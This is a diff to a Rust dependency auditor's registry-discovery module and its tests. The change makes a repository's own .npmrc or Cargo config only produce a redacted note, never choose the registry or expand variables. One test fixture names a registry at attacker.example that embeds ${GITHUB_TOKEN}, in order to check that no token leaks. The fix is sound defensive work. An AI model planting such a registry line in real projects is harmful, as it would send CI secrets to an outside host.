@@ -1,41 +1,91 @@
-//! Registry base URLs: `[registries]` first, else each ecosystem's own settings (PIP_INDEX_URL,
-//! npm's registry, GOPROXY, cargo's source replacement); nothing configured means no registry.
+//! Registry base URLs: `[registries]` first, else each ecosystem's own settings as the auditor
+//! has them (environment variables, `~/.npmrc`, `$CARGO_HOME/config.toml`), else what the
+//! ecosystem's own client answers. Files of the audited tree never choose an endpoint and are
+//! never `${VAR}`-expanded: a repository's `.npmrc` or `.cargo/config.toml` naming another
+//! registry is a note only (README "Dependencies").
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
+use super::redact::redact_url;
 use crate::deps::model::Ecosystem;
+use crate::problem::{Problem, Stage};
 
 /// Reads an environment variable (`std::env::var(..).ok()` in the binary; a map in tests).
 pub type Env<'a> = &'a dyn Fn(&str) -> Option<String>;
 
-/// Base URLs per ecosystem: `config` (`[registries]`, by ecosystem id) first, else the
-/// ecosystem's own settings read through `env`: `npm_config_registry`/`NPM_CONFIG_REGISTRY`, an
-/// `.npmrc` `registry=` in `root` or `$HOME`; `PIP_INDEX_URL`; the first http(s) entry of
-/// `GOPROXY`; cargo's `replace-with` of crates-io in `root/.cargo/config.toml` or
-/// `$CARGO_HOME/config.toml` (a `sparse+` index only: a git index cannot be read over HTTP).
+/// The bases found, where each came from, and notes about repository files.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Discovered {
+    pub bases: BTreeMap<Ecosystem, String>,
+    /// `config`, `env`, `user-file` or `client`, per ecosystem in `bases`.
+    pub sources: BTreeMap<Ecosystem, String>,
+    pub notes: Vec<Problem>,
+}
+
+/// Base URLs per ecosystem, without asking any client (see [`discover`]).
 pub fn registry_bases(
     config: &BTreeMap<String, String>,
     root: &Path,
     env: Env,
 ) -> BTreeMap<Ecosystem, String> {
-    let mut out = BTreeMap::new();
+    discover(config, root, env, &[]).bases
+}
+
+/// Base URLs per ecosystem: `config` (`[registries]`, by ecosystem id) first; else the
+/// auditor's settings read through `env`: `npm_config_registry`/`NPM_CONFIG_REGISTRY`, then
+/// `registry=` of `$HOME/.npmrc`; `PIP_INDEX_URL`; the first http(s) entry of `GOPROXY`;
+/// cargo's `replace-with` of crates-io in `$CARGO_HOME/config.toml` (a `sparse+` index only);
+/// else, for the ecosystems in `ask` (those in use; none when `QUARTERDECK_ASK_CLIENTS` is `0`),
+/// the ecosystem's client. `root`'s own `.npmrc` and `.cargo/config(.toml)` are only compared:
+/// naming another registry is a note.
+pub fn discover(
+    config: &BTreeMap<String, String>,
+    root: &Path,
+    env: Env,
+    ask: &[Ecosystem],
+) -> Discovered {
+    let ask_clients = env("QUARTERDECK_ASK_CLIENTS").is_none_or(|v| v != "0");
+    let mut out = Discovered::default();
     for eco in Ecosystem::ALL {
-        let base = config
+        let configured = config
             .get(eco.as_str())
             .map(|s| s.trim().to_string())
             .filter(|s| !s.is_empty())
+            .map(|b| (b, "config"));
+        let found = configured
             .or_else(|| match eco {
-                Ecosystem::Npm => npm_registry(root, env),
+                Ecosystem::Npm => npm_registry(env),
                 Ecosystem::Pypi => env("PIP_INDEX_URL")
                     .filter(|u| is_http(u.trim()))
-                    .map(|u| u.trim().to_string()),
-                Ecosystem::Go => env("GOPROXY").and_then(|v| goproxy(&v)),
-                Ecosystem::Cargo => cargo_registry(root, env),
+                    .map(|u| (u.trim().to_string(), "env")),
+                Ecosystem::Go => env("GOPROXY").and_then(|v| goproxy(&v)).map(|b| (b, "env")),
+                Ecosystem::Cargo => cargo_registry(env).map(|b| (b, "user-file")),
                 _ => None,
+            })
+            .or_else(|| {
+                if !ask_clients || !ask.contains(&eco) {
+                    return None;
+                }
+                super::client::ask(eco, env).map(|b| (b, "client"))
             });
-        if let Some(b) = base {
-            out.insert(eco, b);
+        if let Some((base, source)) = &found {
+            out.bases.insert(eco, base.clone());
+            out.sources.insert(eco, source.to_string());
+        }
+        if let Some((file, named)) = repository_setting(eco, root) {
+            let used = found.as_ref().map(|(b, _)| b.trim_end_matches('/'));
+            if used != Some(named.trim_end_matches('/')) {
+                out.notes.push(Problem::new(
+                    file,
+                    Stage::Registry,
+                    format!(
+                        "names {} registry {}, not used: files of the audited repository never choose a registry (set it in `[registries]`, the environment or your own configuration)",
+                        eco.as_str(),
+                        redact_url(&named)
+                    ),
+                ));
+            }
         }
     }
     out
@@ -49,24 +99,48 @@ fn home(env: Env) -> Option<PathBuf> {
     env("HOME").filter(|h| !h.is_empty()).map(PathBuf::from)
 }
 
-fn npm_registry(root: &Path, env: Env) -> Option<String> {
+fn npm_registry(env: Env) -> Option<(String, &'static str)> {
     let from_env = env("npm_config_registry")
         .or_else(|| env("NPM_CONFIG_REGISTRY"))
         .map(|v| v.trim().to_string())
         .filter(|v| is_http(v));
-    from_env.or_else(|| {
-        let mut files = vec![root.join(".npmrc")];
-        files.extend(home(env).map(|h| h.join(".npmrc")));
-        files
-            .iter()
-            .filter_map(|f| std::fs::read_to_string(f).ok())
-            .find_map(|text| npmrc_registry(&text, env))
-    })
+    if let Some(b) = from_env {
+        return Some((b, "env"));
+    }
+    let file = home(env)?.join(".npmrc");
+    let text = std::fs::read_to_string(file).ok()?;
+    npmrc_registry(&text, Some(env)).map(|b| (b, "user-file"))
 }
 
-/// The `registry=` of an .npmrc (`;`/`#` comments, quotes, `${VAR}` expansion); scoped
-/// `@scope:registry=` lines are left out.
-pub fn npmrc_registry(text: &str, env: Env) -> Option<String> {
+/// The registry a repository file of `root` names (as written, never expanded), and the file.
+fn repository_setting(eco: Ecosystem, root: &Path) -> Option<(String, String)> {
+    match eco {
+        Ecosystem::Npm => {
+            let text = read_small(&root.join(".npmrc"))?;
+            npmrc_registry(&text, None).map(|b| (".npmrc".to_string(), b))
+        }
+        Ecosystem::Cargo => ["config.toml", "config"].iter().find_map(|name| {
+            let text = read_small(&root.join(".cargo").join(name))?;
+            let table = text.parse::<toml::Table>().ok()?;
+            cargo_replacement(&[table]).map(|b| (format!(".cargo/{name}"), b))
+        }),
+        _ => None,
+    }
+}
+
+/// A small regular file (not a link out of the tree), or `None`.
+fn read_small(path: &Path) -> Option<String> {
+    let meta = std::fs::symlink_metadata(path).ok()?;
+    if !meta.is_file() || meta.len() > 1024 * 1024 {
+        return None;
+    }
+    std::fs::read_to_string(path).ok()
+}
+
+/// The `registry=` of an .npmrc (`;`/`#` comments, quotes); scoped `@scope:registry=` lines
+/// are left out. `${VAR}` is expanded only with `env` (the auditor's own files); a repository's
+/// file is read as written.
+pub fn npmrc_registry(text: &str, env: Option<Env>) -> Option<String> {
     text.lines().find_map(|line| {
         let line = line.trim();
         if line.starts_with(';') || line.starts_with('#') {
@@ -77,7 +151,10 @@ pub fn npmrc_registry(text: &str, env: Env) -> Option<String> {
             return None;
         }
         let value = value.trim().trim_matches('"').trim_matches('\'');
-        let value = expand_vars(value, env);
+        let value = match env {
+            Some(env) => expand_vars(value, env),
+            None => value.to_string(),
+        };
         is_http(&value).then_some(value)
     })
 }
@@ -110,16 +187,13 @@ pub fn goproxy(value: &str) -> Option<String> {
     None
 }
 
-fn cargo_registry(root: &Path, env: Env) -> Option<String> {
+fn cargo_registry(env: Env) -> Option<String> {
     let cargo_home = env("CARGO_HOME")
         .filter(|h| !h.is_empty())
         .map(PathBuf::from)
-        .or_else(|| home(env).map(|h| h.join(".cargo")));
-    let mut dirs = vec![root.join(".cargo")];
-    dirs.extend(cargo_home);
-    let tables: Vec<toml::Table> = dirs
+        .or_else(|| home(env).map(|h| h.join(".cargo")))?;
+    let tables: Vec<toml::Table> = [cargo_home.join("config.toml"), cargo_home.join("config")]
         .iter()
-        .flat_map(|d| [d.join("config.toml"), d.join("config")])
         .filter_map(|f| std::fs::read_to_string(f).ok())
         .filter_map(|t| t.parse::<toml::Table>().ok())
         .collect();
@@ -196,39 +270,72 @@ mod tests {
     }
 
     #[test]
-    fn npmrc_in_project_then_home() {
+    fn home_npmrc_is_used_and_the_repository_one_only_noted() {
         let project = tempfile::tempdir().unwrap();
         let home = tempfile::tempdir().unwrap();
         std::fs::write(
             home.path().join(".npmrc"),
-            "; warehouse workstation\n@ledger:registry=https://registry.example/scoped/\nregistry = \"https://registry.example/home/\"\n",
+            "; warehouse workstation\n@ledger:registry=https://registry.example/scoped/\nregistry = \"https://${NPM_TOKEN_HOST}/home/\"\n",
         )
         .unwrap();
         let home_s = home.path().to_string_lossy().into_owned();
-        let env = env_of(&[("HOME", &home_s), ("NPM_TOKEN_HOST", "registry.example")]);
-        let bases = registry_bases(&BTreeMap::new(), project.path(), &env);
+        let env = env_of(&[
+            ("HOME", &home_s),
+            ("NPM_TOKEN_HOST", "registry.example"),
+            ("GITHUB_TOKEN", "ghs_runner_secret"),
+        ]);
+        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
         assert_eq!(
-            bases.get(&Ecosystem::Npm).map(String::as_str),
-            Some("https://registry.example/home/")
+            found.bases.get(&Ecosystem::Npm).map(String::as_str),
+            Some("https://registry.example/home/"),
+            "the auditor's own file is expanded"
         );
+        assert_eq!(
+            found.sources.get(&Ecosystem::Npm).map(String::as_str),
+            Some("user-file")
+        );
+        assert!(found.notes.is_empty());
         std::fs::write(
             project.path().join(".npmrc"),
-            "# billing\nregistry=https://${NPM_TOKEN_HOST}/project/\n",
+            "# billing\nregistry=https://u:pw@attacker.example/${GITHUB_TOKEN}/\n",
         )
         .unwrap();
-        let bases = registry_bases(&BTreeMap::new(), project.path(), &env);
+        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
         assert_eq!(
-            bases.get(&Ecosystem::Npm).map(String::as_str),
-            Some("https://registry.example/project/")
+            found.bases.get(&Ecosystem::Npm).map(String::as_str),
+            Some("https://registry.example/home/"),
+            "the repository's .npmrc never chooses the endpoint"
         );
+        assert_eq!(found.notes.len(), 1);
+        assert_eq!(found.notes[0].path, ".npmrc");
+        assert_eq!(
+            found.notes[0].message,
+            "names npm registry https://***@attacker.example/${GITHUB_TOKEN}/, not used: files of the audited repository never choose a registry (set it in `[registries]`, the environment or your own configuration)"
+        );
+        assert!(!format!("{found:?}").contains("ghs_runner_secret"));
         let with_env = env_of(&[
             ("HOME", &home_s),
             ("NPM_CONFIG_REGISTRY", "http://127.0.0.1:4873/"),
         ]);
-        let bases = registry_bases(&BTreeMap::new(), project.path(), &with_env);
+        let found = discover(&BTreeMap::new(), project.path(), &with_env, &[]);
         assert_eq!(
-            bases.get(&Ecosystem::Npm).map(String::as_str),
+            found.bases.get(&Ecosystem::Npm).map(String::as_str),
             Some("http://127.0.0.1:4873/")
+        );
+        assert_eq!(
+            found.sources.get(&Ecosystem::Npm).map(String::as_str),
+            Some("env")
+        );
+        // The same registry in the repository's file and the auditor's: no note.
+        std::fs::write(
+            project.path().join(".npmrc"),
+            "registry=http://127.0.0.1:4873\n",
+        )
+        .unwrap();
+        assert!(
+            discover(&BTreeMap::new(), project.path(), &with_env, &[])
+                .notes
+                .is_empty()
         );
     }
 
@@ -284,7 +391,7 @@ mod tests {
             "[source.crates-io]\nreplace-with = \"x\"\n[source.x]\nreplace-with = \"crates-io\"\n",
         );
         assert_eq!(cargo_replacement(&[looped]), None);
-        // The project's file beats CARGO_HOME's.
+        // CARGO_HOME's file is used; the project's only noted.
         let dir = tempfile::tempdir().unwrap();
         let home = tempfile::tempdir().unwrap();
         std::fs::create_dir_all(dir.path().join(".cargo")).unwrap();
@@ -292,11 +399,13 @@ mod tests {
         std::fs::write(home.path().join("config.toml"), "[source.crates-io]\nreplace-with = \"h\"\n[source.h]\nregistry = \"sparse+https://registry.example/home/\"\n").unwrap();
         let cargo_home = home.path().to_string_lossy().into_owned();
         let env = env_of(&[("CARGO_HOME", &cargo_home)]);
-        let bases = registry_bases(&BTreeMap::new(), dir.path(), &env);
+        let found = discover(&BTreeMap::new(), dir.path(), &env, &[]);
         assert_eq!(
-            bases.get(&Ecosystem::Cargo).map(String::as_str),
-            Some("sparse+https://registry.example/project/")
+            found.bases.get(&Ecosystem::Cargo).map(String::as_str),
+            Some("sparse+https://registry.example/home/")
         );
+        assert_eq!(found.notes.len(), 1);
+        assert_eq!(found.notes[0].path, ".cargo/config.toml");
         let other = tempfile::tempdir().unwrap();
         let bases = registry_bases(&BTreeMap::new(), other.path(), &env);
         assert_eq!(
